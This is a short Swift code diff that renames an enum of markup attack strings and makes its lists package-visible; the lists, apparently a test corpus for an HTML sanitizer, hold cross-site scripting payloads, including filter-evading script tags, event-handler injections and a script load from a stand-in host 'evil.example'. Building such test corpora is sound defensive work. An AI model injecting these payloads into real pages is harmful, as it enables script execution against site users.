@@ -1,10 +1,10 @@
 /// Markup that runs or loads something in one reader or another, by the trick that it plays.
-enum Attacks {
-  static let all: [String] =
+package enum MarkupAttacks {
+  package static let all: [String] =
     scripts + handlers + schemes + rawText + foreign + nesting + loading + styles + encodings
     + broken
 
-  static let scripts = [
+  package static let scripts = [
     "<script>alert(1)</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
     "<script >alert(1)</script >", "<script\n>alert(1)</script\n>", "<script/x>alert(1)</script>",
     "<<script>alert(1);//<</script>", "<scr<script>ipt>alert(1)</scr</script>ipt>",
@@ -16,7 +16,7 @@ enum Attacks {
     "<script>/*<img src=x onerror=alert(1)>*/</script>", "<noscript><script>alert(1)</noscript>",
   ]
 
-  static let handlers = [
+  package static let handlers = [
     "<img src=x onerror=alert(1)>", "<img src=x ONERROR=alert(1)>", "<img src=x onerror =alert(1)>",
     "<img/src=x/onerror=alert(1)>", "<img src=\"x\"onerror=\"alert(1)\">",
     "<img src='x' onerror='alert(1)'>", "<img src=`x`onerror=alert(1)>",
